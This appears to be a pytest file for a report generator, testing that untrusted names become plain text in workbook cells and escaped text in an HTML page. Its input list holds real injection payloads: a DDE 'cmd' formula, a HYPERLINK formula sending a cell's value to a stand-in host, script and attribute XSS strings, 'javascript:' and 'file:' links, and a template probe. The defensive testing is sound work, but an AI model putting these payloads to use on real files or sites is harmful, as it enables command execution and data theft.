"""Cases D of inputs.md: text into cells and onto the page."""

from __future__ import annotations

import html
import re
import zipfile
from typing import Final

import pytest
from case_files import BASE, Outputs, build, read, refused
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from reportgen.files import data_folder

NAMES: Final = {
    "D01 a formula": "=1+1",
    "D01 a link": '=HYPERLINK("http://x.invalid/?"&B2,"ok")',
    "D01 a command": "=cmd|' /C calc'!A0",
    "D01 a plus": "+1+1",
    "D01 a minus": "-1+1",
    "D01 an at sign": "@SUM(1,1)",
    "D01 a wide equals sign": "\uff1d1+1",
    "D03 equals signs": "=======",
    "D03 two equals signs": "==x",
    "D03 an equals sign": "=",
    "D07 an error": "#N/A",
    "D07 another error": "#REF!",
    "D09 emoji": "\N{CLAPPER BOARD}" * 16,
    "D09 combining marks and joiners": "e\u0301 \N{MAN}\u200d\N{PERSONAL COMPUTER}",
    "right to left": "\u0627\u0644\u0646\u0645\u0648\u0630\u062c",
    "a character's code": "_x000D_",
    "markup": "<script>alert(1)</script>",
    "a template": "{{ 7*7 }}",
    "an attribute": '" onload="alert(1)',
    "two lines": "a\nb",
    "D11 a script's link": "javascript:alert(1)",
    "D11 a file's link": "file:///c:/x",
    "D11 a link": "https://example.com/" + "x" * 2_100,
    "an apostrophe": "'x",
    "a long name": "x" * 300,
}
TABS_AND_RETURNS: Final = ("\t=1+1", "\r=1+1")


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Outputs:
    """The outputs of a plan with every name as its model and as a note."""
    quoted = ['"' + name.replace('"', '""') + '"' for name in NAMES.values()]
    rows = "".join(f"{name},{name},{name},7B,H100\n" for name in quoted)
    return build(f"job,model,note,params,gpu\n{rows}", tmp_path_factory.mktemp("text"))


@pytest.fixture(scope="module")
def cells(outputs: Outputs) -> list[Cell]:
    """The cells of the Plan sheet."""
    rows = load_workbook(outputs.workbook)["Plan"].iter_rows()
    return [cell for row in rows for cell in row if isinstance(cell, Cell)]


@pytest.mark.parametrize("case", NAMES)
def test_a_name_is_a_text_of_exactly_its_characters(case: str, cells: list[Cell]) -> None:
    held = [cell for cell in cells if cell.value == NAMES[case].replace("_x000D_", "_x005F_x000D_")]
    held = held or [cell for cell in cells if cell.value == NAMES[case]]
    assert len(held) >= 3
    assert {cell.data_type for cell in held} == {"s"}
    if NAMES[case][0] in "=+-@":
        assert all(cell.quotePrefix for cell in held)


@pytest.mark.parametrize("case", NAMES)
def test_a_name_is_shown_on_the_page_as_its_characters(case: str, outputs: Outputs) -> None:
    assert html.escape(NAMES[case]).replace("&#x27;", "&#39;").replace("&quot;", "&#34;") in outputs.html


def test_no_name_is_a_formula_in_any_sheet(outputs: Outputs) -> None:
    with zipfile.ZipFile(outputs.workbook) as archive:
        sheets = [archive.read(part).decode() for part in archive.namelist() if part.startswith("xl/worksheets/sheet")]
    formulas = [formula for sheet in sheets for formula in re.findall(r"<f>(.*?)</f>", sheet)]
    assert formulas
    assert [
        formula for formula in formulas if re.search(r"cmd|HYPERLINK|x\.invalid|^[=+-]|^1\+1|SUM\(1,1\)", formula)
    ] == []


@pytest.mark.parametrize("text", TABS_AND_RETURNS)
def test_d01_a_tab_or_return_before_a_formula_is_no_part_of_the_name(text: str) -> None:
    inputs = read(f'model,params,gpu\n"{text}",7B,H100\n')
    assert [name for names in inputs.plan.values.values() for name in names.tolist() if name == "=1+1"]


@pytest.mark.parametrize("mark", ["\x00", "\x08", "\x1f", "\x7f", "\x93", "\ufffe", "\uffff"])
def test_d05_a_character_that_no_workbook_holds_is_refused(mark: str) -> None:
    (line,) = refused(BASE.replace("llama", f"a{mark}b")).lines
    assert line.startswith(f"plan.csv:2: model: found the character U+{ord(mark):04X}")


def test_d05_half_a_character_is_refused_with_its_offset() -> None:
    assert "found the byte 0xed at offset" in str(refused(BASE.encode().replace(b"llama", b"a\xed\xa0\x80b")))


def test_d11_no_text_of_the_plan_becomes_a_link(outputs: Outputs) -> None:
    with zipfile.ZipFile(outputs.workbook) as archive:
        assert not [part for part in archive.namelist() if b"javascript:" in archive.read(part) and "_rels" in part]
        assert not [part for part in archive.namelist() if b'TargetMode="External"' in archive.read(part)]
    assert not re.search(r"""(?:href|src)\s*=\s*["']?\s*(?:javascript|file):""", outputs.html, re.IGNORECASE)


def test_d13_every_template_escapes(outputs: Outputs) -> None:
    assert "<script>alert(1)" not in outputs.html
    assert "49" not in re.findall(r"<bdi>(49)</bdi>", outputs.html)
    templates = "".join(path.read_text() for path in data_folder("templates").rglob("*.html"))
    assert set(re.findall(r"([\w.]+)\s*\|\s*safe", templates)) <= {"style", "script"}


def test_d15_the_page_needs_no_network(outputs: Outputs) -> None:
    loads = re.findall(r"""(?:\bsrc\s*=\s*|@import\s*|url\(\s*)["']?(?:https?:)?//""", outputs.html)
    styles = re.findall(r"<link[^>]+>", outputs.html)
    assert loads == []
    assert [one for one in styles if "http" in one] == []
